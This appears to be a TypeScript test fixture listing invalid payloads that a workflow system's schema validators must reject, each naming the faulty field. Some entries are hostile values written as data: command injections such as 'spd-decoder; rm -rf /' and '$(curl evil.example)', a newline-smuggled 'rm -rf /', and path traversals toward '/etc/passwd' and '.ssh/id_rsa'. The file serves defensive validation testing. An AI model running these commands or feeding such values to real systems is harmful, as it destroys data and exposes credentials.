/**
 * Payloads every consumer must refuse, each with the field its refusal must name. Each is a
 * valid sample with one thing broken, so the named field is the only thing wrong.
 */
import { LIMITS } from '../shared/model/index.js';
import type { SchemaName } from './catalog.js';
import { readSample, SAMPLE_VARIANTS, type SampleVariant } from './samples.js';

export interface InvalidPayload {
  readonly schema: SchemaName;
  readonly description: string;
  readonly payload: unknown;
  /** The path `formatIssues` must report, as in `inputs[0].name`. */
  readonly path: string;
}

/** Marks a field to delete rather than set. */
const MISSING = Symbol('missing');

type FieldPath = readonly (string | number)[];

/** The sample `sample` with the field at `field` set to `value` (or deleted). */
function broken(sample: SchemaName | SampleVariant, field: FieldPath, value: unknown): unknown {
  const payload = readSample(sample);
  const parentPath = field.slice(0, -1);
  const key = field[field.length - 1]!;
  const parent = parentPath.reduce<Record<string | number, unknown>>(
    (node, segment) => node[segment] as Record<string | number, unknown>,
    payload as Record<string | number, unknown>,
  );
  if (value === MISSING) delete parent[key];
  else parent[key] = value;
  return payload;
}

function invalid(
  schema: SchemaName,
  description: string,
  field: FieldPath,
  value: unknown,
  path: string,
): InvalidPayload {
  return { schema, description, payload: broken(schema, field, value), path };
}

/** Like `invalid`, from the sample of a second form of a schema. */
function invalidVariant(
  variant: SampleVariant,
  description: string,
  field: FieldPath,
  value: unknown,
  path: string,
): InvalidPayload {
  const schema = SAMPLE_VARIANTS[variant];
  return { schema, description, payload: broken(variant, field, value), path };
}

const SHA256_OF_EMPTY = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
const names = (count: number) => Array.from({ length: count }, (_, index) => `slice${index}.raw`);

const fileInput: InvalidPayload[] = [
  invalid('event.file.input', 'name climbing out of the directory', ['file', 'name'], '../x', 'file.name'),
  invalid('event.file.input', 'absolute name', ['file', 'name'], '/etc/passwd', 'file.name'),
  invalid('event.file.input', 'name with a traversal inside', ['file', 'name'], 'a/../b', 'file.name'),
  invalid('event.file.input', 'name ".."', ['file', 'name'], '..', 'file.name'),
  invalid('event.file.input', 'name with a backslash', ['file', 'name'], '..\\windows\\x.raw', 'file.name'),
  invalid('event.file.input', 'name with NUL', ['file', 'name'], 'slice.raw\u0000.sh', 'file.name'),
  invalid('event.file.input', 'name with a newline', ['file', 'name'], 'slice\n.raw', 'file.name'),
  invalid('event.file.input', 'empty name', ['file', 'name'], '', 'file.name'),
  invalid(
    'event.file.input',
    'oversize name',
    ['file', 'name'],
    'x'.repeat(LIMITS.fileNameLength + 1),
    'file.name',
  ),
  invalid(
    'event.file.input',
    'http URL',
    ['file', 'url'],
    'https://spd-online-buffer/input/a.raw',
    'file.url',
  ),
  invalid(
    'event.file.input',
    'local path of the old system',
    ['file', 'url'],
    '/data/SPDOE/buffers/input/file_in_1157',
    'file.url',
  ),
  invalid('event.file.input', 'URL without a key', ['file', 'url'], 's3://spd-online-buffer', 'file.url'),
  invalid(
    'event.file.input',
    'key climbing out',
    ['file', 'url'],
    's3://spd-online-buffer/../etc/passwd',
    'file.url.key',
  ),
  invalid(
    'event.file.input',
    'absolute key',
    ['file', 'url'],
    's3://spd-online-buffer//etc/passwd',
    'file.url.key',
  ),
  invalid(
    'event.file.input',
    'key with a traversal inside',
    ['file', 'url'],
    's3://spd-online-buffer/input/a/../b',
    'file.url.key',
  ),
  invalid(
    'event.file.input',
    'key with a control character',
    ['file', 'url'],
    's3://spd-online-buffer/in\u0007put/a.raw',
    'file.url.key',
  ),
  invalid(
    'event.file.input',
    'key with a backslash',
    ['file', 'url'],
    's3://spd-online-buffer/input\\a.raw',
    'file.url.key',
  ),
  invalid(
    'event.file.input',
    'bucket with capitals and underscore',
    ['file', 'url'],
    's3://SPD_Buffer/a.raw',
    'file.url.bucket',
  ),
  invalid(
    'event.file.input',
    'bucket with two dots in a row',
    ['file', 'url'],
    's3://spd..buffer/a.raw',
    'file.url.bucket',
  ),
  invalid(
    'event.file.input',
    'bucket shaped as an IP address',
    ['file', 'url'],
    's3://10.0.0.1/a.raw',
    'file.url.bucket',
  ),
  invalid('event.file.input', 'negative size', ['file', 'size'], -1, 'file.size'),
  invalid(
    'event.file.input',
    'size above the limit',
    ['file', 'size'],
    LIMITS.fileSizeBytes + 1,
    'file.size',
  ),
  invalid('event.file.input', 'fractional size', ['file', 'size'], 1.5, 'file.size'),
  invalid('event.file.input', 'size as a string', ['file', 'size'], '3221225472', 'file.size'),
  invalid(
    'event.file.input',
    'checksum of the old system',
    ['file', 'checksum'],
    'a9f8c7e6-1b2c-4d5e',
    'file.checksum',
  ),
  invalid(
    'event.file.input',
    'sha256 one digit short',
    ['file', 'checksum'],
    `sha256:${SHA256_OF_EMPTY.slice(1)}`,
    'file.checksum',
  ),
  invalid(
    'event.file.input',
    'unsupported algorithm',
    ['file', 'checksum'],
    'md5:d41d8cd98f00b204e9800998ecf8427e',
    'file.checksum',
  ),
  invalid('event.file.input', 'upper-case hex', ['file', 'checksum'], 'adler32:5E2F0A9C', 'file.checksum'),
  invalid('event.file.input', 'missing dataset uid', ['datasetUid'], MISSING, 'datasetUid'),
  invalid('event.file.input', 'dataset uid climbing out', ['datasetUid'], '../in', 'datasetUid'),
  invalid('event.file.input', 'dataset name with a slash', ['datasetName'], 'input/test.raw', 'datasetName'),
  invalid(
    'event.file.input',
    'unknown field in the file',
    ['file', 'status'],
    { state: 'ready' },
    'file.status',
  ),
];

const datasets: InvalidPayload[] = [
  invalid(
    'event.dataset.close',
    'checklist naming a file twice',
    ['files', 3],
    'spd.run00421.slice000121.raw',
    'files[3]',
  ),
  invalid('event.dataset.close', 'checklist entry climbing out', ['files', 1], '../x', 'files[1]'),
  invalid('event.dataset.close', 'checklist entry with a directory', ['files', 0], 'dir/a.raw', 'files[0]'),
  invalid('event.dataset.close', 'checklist as one string', ['files'], 'a.raw,b.raw', 'files'),
  invalid(
    'event.dataset.close',
    'checklist above the limit',
    ['files'],
    names(LIMITS.checklistFiles + 1),
    'files',
  ),
  invalid('event.dataset.close', 'missing checklist', ['files'], MISSING, 'files'),
  invalid('event.dataset.close', 'unknown field', ['state'], 'CLOSED', 'state'),
  invalid(
    'event.dataset.close',
    'inline checklist and a checklist object at once',
    ['checklistObject'],
    (readSample('event.dataset.close.checklist-object') as { checklistObject: unknown }).checklistObject,
    'checklistObject',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object with an http URL',
    ['checklistObject', 'url'],
    'https://spd-online-buffer/datasets/run.checklist',
    'checklistObject.url',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object key climbing out',
    ['checklistObject', 'url'],
    's3://spd-online-buffer/datasets/../outputs/x.checklist',
    'checklistObject.url.key',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object without a count',
    ['checklistObject', 'count'],
    MISSING,
    'checklistObject.count',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object with a negative count',
    ['checklistObject', 'count'],
    -1,
    'checklistObject.count',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object listing more than the limit',
    ['checklistObject', 'count'],
    LIMITS.checklistObjectFiles + 1,
    'checklistObject.count',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object sha256 in upper case',
    ['checklistObject', 'sha256'],
    SHA256_OF_EMPTY.toUpperCase(),
    'checklistObject.sha256',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object sha256 with a prefix',
    ['checklistObject', 'sha256'],
    `sha256:${SHA256_OF_EMPTY}`,
    'checklistObject.sha256',
  ),
  invalidVariant(
    'event.dataset.close.checklist-object',
    'checklist object with an unknown field',
    ['checklistObject', 'size'],
    1024,
    'checklistObject.size',
  ),
  invalid('event.dataset.upload', 'empty uid', ['datasetUid'], '', 'datasetUid'),
  invalid('event.dataset.upload', 'uid as a number', ['datasetUid'], 26, 'datasetUid'),
  invalid('event.dataset.delete', 'uid with a space', ['datasetUid'], 'in 1', 'datasetUid'),
  invalid('event.dataset.delete', 'unknown field', ['force'], true, 'force'),
];

const tasks: InvalidPayload[] = [
  invalid(
    'event.task.submitted',
    'args as a shell string',
    ['args'],
    '-in file_in_1157 -out file_out_1157',
    'args',
  ),
  invalid(
    'event.task.submitted',
    'executable chaining a command',
    ['executable'],
    'spd-decoder; rm -rf /',
    'executable',
  ),
  invalid(
    'event.task.submitted',
    'executable with command substitution',
    ['executable'],
    '$(curl evil.example)',
    'executable',
  ),
  invalid(
    'event.task.submitted',
    'executable with a pipe',
    ['executable'],
    'spd-decoder | tee out',
    'executable',
  ),
  invalid(
    'event.task.submitted',
    'executable with a redirection',
    ['executable'],
    'spd-decoder > /dev/null',
    'executable',
  ),
  invalid('event.task.submitted', 'argument with NUL', ['args', 1], 'cable_map\u0000.json', 'args[1]'),
  invalid(
    'event.task.submitted',
    'too many arguments',
    ['args'],
    Array(LIMITS.argsCount + 1).fill('-v'),
    'args',
  ),
  invalid(
    'event.task.submitted',
    'oversize argument',
    ['args', 0],
    'x'.repeat(LIMITS.argLength + 1),
    'args[0]',
  ),
  invalid('event.task.submitted', 'unknown device', ['device'], 'TPU', 'device'),
  invalid('event.task.submitted', 'lower-case device', ['device'], 'cpu', 'device'),
  invalid('event.task.submitted', 'unknown mode', ['mode'], 'reduce', 'mode'),
  invalid('event.task.submitted', 'rank 0', ['rank'], 0, 'rank'),
  invalid('event.task.submitted', 'rank above the maximum', ['rank'], 101, 'rank'),
  invalid('event.task.submitted', 'fractional rank', ['rank'], 1.5, 'rank'),
  invalid('event.task.submitted', 'rank as a string', ['rank'], '5', 'rank'),
  invalid('event.task.submitted', 'too many retries', ['maxRetries'], LIMITS.maxRetries + 1, 'maxRetries'),
  invalid('event.task.submitted', 'negative retries', ['maxRetries'], -1, 'maxRetries'),
  invalid('event.task.submitted', 'no files per job', ['filesPerJob'], 0, 'filesPerJob'),
  invalid('event.task.submitted', 'failure tolerance above 1', ['failureTolerance'], 1.5, 'failureTolerance'),
  invalid('event.task.submitted', 'no wall time', ['wallTimeSeconds'], 0, 'wallTimeSeconds'),
  invalid('event.task.submitted', 'no cores', ['coresPerJob'], 0, 'coresPerJob'),
  invalid('event.task.submitted', 'missing task id', ['taskId'], MISSING, 'taskId'),
  invalid('event.task.submitted', 'task id climbing out', ['taskId'], '../../t', 'taskId'),
  invalid(
    'event.task.submitted',
    'output dataset with a traversal',
    ['outputDataset'],
    'out/../x',
    'outputDataset',
  ),
  invalid('event.task.submitted', 'field of the old WfMS', ['retry'], 5, 'retry'),
  invalid('event.task.cancel', 'empty reason', ['reason'], '', 'reason'),
  invalid('event.task.cancel', 'oversize reason', ['reason'], 'r'.repeat(1025), 'reason'),
  invalid('event.task.cancel', 'reason over two lines', ['reason'], 'bad run\r\nrm -rf /', 'reason'),
  invalid('event.task.cancel', 'missing reason', ['reason'], MISSING, 'reason'),
  invalid('event.task.priority', 'negative rank', ['rank'], -3, 'rank'),
  invalid('event.task.priority', 'null rank', ['rank'], null, 'rank'),
];

const outbound: InvalidPayload[] = [
  invalid('event.task.status-changed', 'state of the old system', ['to'], 'IN_PROGRESS', 'to'),
  invalid('event.task.status-changed', 'change to the same state', ['to'], 'RUNNING', 'to'),
  invalid('event.task.status-changed', 'counts missing a state', ['counts', 'LOST'], MISSING, 'counts.LOST'),
  invalid('event.task.status-changed', 'negative count', ['counts', 'DONE'], -1, 'counts.DONE'),
  invalid(
    'event.task.status-changed',
    'count of an unknown state',
    ['counts', 'DEFINED'],
    3,
    'counts.DEFINED',
  ),
  invalid('event.task.status-changed', 'time that is not ISO 8601', ['at'], 'yesterday', 'at'),
  invalid('event.file.registered', 'input kind', ['kind'], 'input', 'kind'),
  invalid(
    'event.file.registered',
    'absolute key',
    ['file', 'location', 'key'],
    '/output/a.root',
    'file.location.key',
  ),
  invalid(
    'event.file.registered',
    'key with a traversal',
    ['file', 'location', 'key'],
    'output/../../a.root',
    'file.location.key',
  ),
  invalid(
    'event.file.registered',
    'URL instead of a location',
    ['file', 'url'],
    's3://spd-online-buffer/a.root',
    'file.url',
  ),
  invalid('event.file.registered', 'missing job id', ['jobId'], MISSING, 'jobId'),
];

const pilot: InvalidPayload[] = [
  invalid('pilot.job-message', 'wrong type', ['type'], 'task', 'type'),
  invalid('pilot.job-message', 'no inputs', ['inputs'], [], 'inputs'),
  invalid(
    'pilot.job-message',
    'input name climbing out',
    ['inputs', 0, 'name'],
    '../../.ssh/id_rsa',
    'inputs[0].name',
  ),
  invalid('pilot.job-message', 'absolute output prefix', ['output', 'prefix'], '/tmp', 'output.prefix'),
  invalid('pilot.job-message', 'args as a shell string', ['args'], '-in file_in_1157', 'args'),
  invalid('pilot.job-message', 'negative attempt', ['attempt'], -1, 'attempt'),
  invalid(
    'pilot.job-message',
    'input checksum of the old system',
    ['inputs', 0, 'checksum'],
    'a9f8c7e6-1b2c',
    'inputs[0].checksum',
  ),
  invalid('pilot.status-message', 'unknown message type', ['type'], 'job.done', 'type'),
  invalid('pilot.status-message', 'outcome that is not final', ['outcome'], 'CANCELLED', 'outcome'),
  invalid(
    'pilot.status-message',
    'input reported as an output',
    ['outputs', 0, 'kind'],
    'input',
    'outputs[0].kind',
  ),
  invalid('pilot.status-message', 'short claim token', ['claimToken'], 'abc', 'claimToken'),
  invalid(
    'pilot.status-message',
    'output name with a backslash',
    ['outputs', 1, 'name'],
    '..\\x.log',
    'outputs[1].name',
  ),
  invalid('pilot.claim-request', 'attempt as a string', ['attempt'], '1', 'attempt'),
  invalid('pilot.claim-request', 'unknown field', ['jobId'], 'j-1', 'jobId'),
  invalid('pilot.claim-request', 'short request id', ['requestId'], 'r-1', 'requestId'),
  invalid('pilot.claim-response', 'empty claim token', ['claimToken'], '', 'claimToken'),
  invalid('pilot.registration', 'no slots', ['slots'], 0, 'slots'),
  invalid('pilot.registration', 'unknown device', ['device'], 'FPGA', 'device'),
  invalid('pilot.registration', 'empty host', ['host'], '', 'host'),
  invalid('pilot.registration', 'unknown degraded capability', ['degraded'], ['no-seatbelt'], 'degraded[0]'),
  invalid(
    'pilot.registration-response',
    'control queue that is not a URL',
    ['controlQueueUrl'],
    'wms-pilot-control',
    'controlQueueUrl',
  ),
  invalid('pilot.heartbeat', 'pilot claiming to be lost', ['state'], 'LOST', 'state'),
  invalid('pilot.heartbeat', 'final state as a phase', ['jobs', 0, 'phase'], 'DONE', 'jobs[0].phase'),
  invalid('pilot.heartbeat-response', 'unknown state', ['state'], 'GONE', 'state'),
  invalid('pilot.control-command', 'unknown command', ['type'], 'job.pause', 'type'),
  invalid('pilot.control-command', 'unknown kill reason', ['reason'], 'because', 'reason'),
];

const api: InvalidPayload[] = [
  invalid('api.register-task-request', 'args as a shell string', ['args'], 'cable_map', 'args'),
  invalid('api.register-task-request', 'empty task id', ['taskId'], '', 'taskId'),
  invalid('api.register-task-request', 'unknown field', ['priority'], 10, 'priority'),
  invalid('api.register-task-response', 'created as a string', ['created'], 'yes', 'created'),
  invalid('api.cancel-task-request', 'missing reason', ['reason'], MISSING, 'reason'),
  invalid('api.rank-update-request', 'rank above the maximum', ['rank'], 1000, 'rank'),
  invalid('api.rank-update-request', 'rank as a string', ['rank'], '10', 'rank'),
  invalid('api.task-list-query', 'limit 0', ['limit'], '0', 'limit'),
  invalid('api.task-list-query', 'limit above the maximum', ['limit'], '1001', 'limit'),
  invalid('api.task-list-query', 'state of the old system', ['state'], 'DEFINED', 'state'),
  invalid('api.task-list-query', 'padded token', ['nextToken'], 'eyJ9==', 'nextToken'),
  invalid('api.job-list-query', 'unknown job state', ['state'], 'RETRY', 'state'),
  invalid('api.file-list-query', 'unknown file kind', ['kind'], 'raw', 'kind'),
  invalid('api.pilot-list-query', 'limit in words', ['limit'], 'ten', 'limit'),
  invalid('api.task-summary', 'negative jobs total', ['progress', 'jobsTotal'], -1, 'progress.jobsTotal'),
  invalid('api.task-view', 'negative percentage', ['progress', 'percentDone'], -1, 'progress.percentDone'),
  invalid('api.task-list', 'items that are not a list', ['items'], {}, 'items'),
  invalid('api.job-view', 'unknown waiting reason', ['waiting', 'reason'], 'sleeping', 'waiting.reason'),
  invalid('api.job-list', 'job without inputs', ['items', 0, 'inputs'], [], 'items[0].inputs'),
  invalid(
    'api.file-list',
    'file with a directory in its name',
    ['items', 0, 'name'],
    'a/b.root',
    'items[0].name',
  ),
  invalid('api.dataset-view', 'negative byte total', ['totalBytes'], -1, 'totalBytes'),
  invalid('api.pilot-list', 'unknown pilot state', ['items', 0, 'state'], 'BUSY', 'items[0].state'),
  invalid('api.error-response', 'missing code', ['error', 'code'], MISSING, 'error.code'),
  invalid(
    'api.error-response',
    'issue without a path',
    ['error', 'issues', 0, 'path'],
    MISSING,
    'error.issues[0].path',
  ),
  invalid('api.audit-request', 'repair as a string', ['repair'], 'yes', 'repair'),
  invalid('api.audit-request', 'a task and a sample size', ['maxTasks'], 10, 'maxTasks'),
  invalid(
    'api.audit-report',
    'unknown invariant',
    ['findings', 0, 'invariant'],
    'tasks-exist',
    'findings[0].invariant',
  ),
  invalid('api.dead-letter-list', 'negative depth', ['queues', 0, 'depth'], -1, 'queues[0].depth'),
  invalid('api.redrive-request', 'zero messages', ['maxMessages'], 0, 'maxMessages'),
  invalid('api.redrive-report', 'moved as a string', ['moved'], '1', 'moved'),
  invalid('api.dashboard-summary', 'missing generation time', ['generatedAt'], MISSING, 'generatedAt'),
  invalid('api.dashboard-history-query', 'more than a day', ['minutes'], 1441, 'minutes'),
  invalid('api.dashboard-history', 'negative count', ['points', 0, 'done'], -1, 'points[0].done'),
  invalid('api.task-hold-response', 'changed as a string', ['changed'], 'yes', 'changed'),
  invalid('api.retry-report', 'negative attempt', ['retried', 0, 'attempt'], -1, 'retried[0].attempt'),
  invalid('api.pilot-command-response', 'unknown command', ['command'], 'pilot.reboot', 'command'),
  invalid('api.job-query', 'task id with a space', ['taskId'], 't reco', 'taskId'),
  invalid('api.job-log-query', 'negative attempt', ['attempt'], -1, 'attempt'),
  invalid('api.job-log', 'missing text', ['text'], MISSING, 'text'),
  invalid('api.dead-letter-messages-query', 'too many messages', ['limit'], 51, 'limit'),
  invalid('api.dead-letter-messages', 'negative depth', ['depth'], -1, 'depth'),
  invalid('api.purge-request', 'missing confirmation', ['confirm'], MISSING, 'confirm'),
  invalid('api.purge-report', 'purged as a string', ['purged'], '1', 'purged'),
  invalid('api.pilot-endpoints', 'status queue not a URL', ['statusQueueUrl'], 'status', 'statusQueueUrl'),
  invalid('api.task-analysis', 'negative failed count', ['pilots', 0, 'failed'], -1, 'pilots[0].failed'),
];

export const INVALID_CORPUS: readonly InvalidPayload[] = [
  ...fileInput,
  ...datasets,
  ...tasks,
  ...outbound,
  ...pilot,
  ...api,
];
